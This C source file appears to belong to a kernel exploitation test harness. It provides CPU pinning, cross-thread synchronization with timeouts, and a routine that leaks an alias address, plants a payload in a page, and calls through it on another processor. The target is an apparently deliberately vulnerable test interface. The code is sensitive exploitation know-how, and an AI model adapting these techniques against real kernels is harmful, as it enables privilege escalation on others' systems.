/* Threads on processors of their choice, and how they wait for each other. */
#define _GNU_SOURCE
#include <pthread.h>
#include <sched.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

enum { PATIENCE_S = 120, EXIT_STUCK = 3, LOOKS_PER_CLOCK = 1 << 16, NR_WARMINGS = 32 };

struct start {
	unsigned int cpu;
	void (*body)(void *);
	void *argument;
};

unsigned int attack_nr_cpus(void)
{
	unsigned int nr = 0;

	while (bw_counters(nr, NULL, 0) >= 0) {
		nr++;
	}
	return nr;
}

void attack_pin(unsigned int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	if (sched_setaffinity(0, sizeof(set), &set) != 0) {
		attack_skip("threads cannot be pinned to a processor");
	}
	while (sched_getcpu() != (int)cpu) {
		sched_yield();
	}
}

void attack_begin(struct bw_leak *leak, unsigned int nr_cpus, unsigned int cpu)
{
	attack_leak(leak);
	if (attack_nr_cpus() < nr_cpus) {
		attack_skip("it takes more processors than this machine has");
	}
	attack_pin(cpu);
	/* Some of it is of the processor that it runs on. */
	attack_leak(leak);
}

static attack_stage nr_running;

static void *thread_main(void *argument)
{
	struct start start = *(struct start *)argument;

	free(argument);
	attack_pin(start.cpu);
	__atomic_fetch_add(&nr_running, 1, __ATOMIC_RELEASE);
	start.body(start.argument);
	return NULL;
}

static time_t now_s(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec;
}

/* Nobody may wait for ever: a stuck attack is a broken one. Looks at the clock now and then. */
static void lose_patience(time_t since_s)
{
	if (now_s() - since_s > PATIENCE_S) {
		attack_say("stuck: the other processor never answered");
		_exit(EXIT_STUCK);
	}
}

void attack_tell(attack_stage *stage, unsigned int value)
{
	/* pairs with the load in attack_await */
	__atomic_store_n(stage, value, __ATOMIC_RELEASE);
}

void attack_await(const attack_stage *stage, unsigned int value, enum attack_await how)
{
	time_t since_s = now_s();

	for (unsigned int looks = 1; __atomic_load_n(stage, __ATOMIC_ACQUIRE) < value; looks++) {
		if (how == AWAIT_YIELD) {
			sched_yield();
		} else {
			__builtin_ia32_pause();
		}
		if (looks % LOOKS_PER_CLOCK == 0) {
			lose_patience(since_s);
		}
	}
}

void attack_thread(unsigned int cpu, void (*body)(void *), void *argument)
{
	struct start *start = malloc(sizeof(*start));
	unsigned int nr_before = nr_running;
	pthread_t thread;

	if (start == NULL) {
		attack_skip("no memory for a thread");
	}
	*start = (struct start){ cpu, body, argument };
	if (pthread_create(&thread, NULL, thread_main, start) != 0) {
		attack_skip("no thread could be started");
	}
	attack_await(&nr_running, nr_before + 1, AWAIT_YIELD);
}

void attack_warm(uint64_t synonym)
{
	for (int i = 0; i < NR_WARMINGS; i++) {
		sched_yield();
		getpid();
		attack_check("vuln_warm", bw_vuln_warm(synonym));
	}
}

void attack_await_parked(long nr)
{
	time_t since_s = now_s();

	while (bw_vuln_parked() < nr) {
		sched_yield();
		lose_patience(since_s);
	}
}

enum { CPU_OF_CALLER, CPU_OF_HOLDER, NR_CPUS_OF_HOLD };

struct hold {
	const char *call;
	long (*hold)(const void *page);
	void *page;
};

static void hold_page(void *argument)
{
	const struct hold *hold = argument;

	attack_check(hold->call, hold->hold(hold->page));
}

int attack_while_held(const char *call, long (*hold)(const void *page), const char *how)
{
	static struct hold held; /* outlives this function, as does the thread */
	struct bw_leak leak;
	uint64_t synonym;

	attack_begin(&leak, NR_CPUS_OF_HOLD, CPU_OF_CALLER);
	held = (struct hold){ call, hold, attack_pages(BW_PAGE_SIZE) };
	synonym = attack_synonym(&leak, held.page);
	payload_object(held.page, synonym, &leak);
	attack_thread(CPU_OF_HOLDER, hold_page, &held);
	attack_await_parked(1);
	attack_say("CPU %d holds frame 0x%lx %s", CPU_OF_HOLDER, attack_pfn(held.page), how);
	attack_say("CPU %d calls through the same bytes at 0x%lx", CPU_OF_CALLER, synonym);
	attack_settle();
	attack_check("vuln_call", bw_vuln_call(synonym));
	bw_vuln_unpark(true);
	return attack_finish();
}
